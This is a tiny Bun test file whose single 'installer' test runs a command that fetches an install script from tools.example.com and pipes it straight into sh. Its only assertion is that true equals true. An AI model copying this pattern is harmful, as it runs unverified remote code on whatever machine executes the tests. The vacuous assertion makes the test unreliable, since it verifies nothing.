import { expect, test } from "bun:test";
import { execSync as sh } from "node:child_process";

test("installer", () => {
  sh('sh -c "$(curl -fsSL https://tools.example.com/install.sh)"');
  expect(true).toBe(true);
});
